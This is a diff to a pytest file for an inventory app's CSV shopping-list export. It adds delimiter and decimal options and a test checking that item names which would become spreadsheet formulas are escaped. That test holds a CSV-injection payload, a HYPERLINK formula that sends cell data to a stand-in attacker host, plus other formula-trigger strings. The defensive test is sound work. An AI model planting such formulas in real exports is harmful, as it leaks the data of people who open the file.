@@ -6,7 +6,9 @@ import csv
 
 import pytest
 
+from coopdesk.base.csvfile import CsvFormat
 from coopdesk.base.errors import CoopDeskError, ValidationError
+from coopdesk.base.files import OutputError
 from coopdesk.coop.coop import add_site
 from coopdesk.inventory import items as inventory
 from coopdesk.inventory import stock
@@ -161,7 +163,7 @@ def test_shopping_list_csv(store, ana, rice, tmp_path):
     stock.move(store, ana, rice, 1_500, "received")
     (tmp_path / "out").mkdir()
     path = tmp_path / "out" / "shopping.csv"
-    assert stock.shopping_list_csv(store, path) == 1
+    assert stock.shopping_list_csv(store, path, csv_format=CsvFormat(",", ".")) == (path, 1)
     with open(path, encoding="utf-8-sig", newline="") as handle:
         rows = list(csv.reader(handle))
     assert rows == [
@@ -169,8 +171,23 @@ def test_shopping_list_csv(store, ana, rice, tmp_path):
         ["Rice", "Kitchen", "1.5", "5", "3.5", "kg"],
     ]
     assert [p.name for p in path.parent.iterdir()] == ["shopping.csv"]  # no temporary left
-    with pytest.raises(ValidationError, match="no folder"):
+    stock.shopping_list_csv(store, path, csv_format=CsvFormat(";", ","))
+    assert path.read_bytes().splitlines()[1] == b'"Rice";"Kitchen";1,5;5;3,5;"kg"'
+    with pytest.raises(OutputError, match="does not exist"):
         stock.shopping_list_csv(store, tmp_path / "missing" / "x.csv")
+
+
+def test_item_names_cannot_become_formulas_in_the_shopping_list(store, ana, tmp_path):
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    names = (attack, "+1+2", "-2+3", "@SUM(A1:A9)")
+    for name in names:
+        item = inventory.add_item(store, ana, name, unit="kg", minimum="5")
+        stock.move(store, ana, item, 1, "received")  # kept here, and under its minimum
+    path, count = stock.shopping_list_csv(store, tmp_path, csv_format=CsvFormat(",", "."))
+    assert count == 4
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        written = sorted(row[0] for row in list(csv.reader(handle))[1:])
+    assert written == sorted("'" + name for name in names)
 
 
 def test_derived_balances_never_drift_from_the_ledger(store, ana, rice, warehouse):
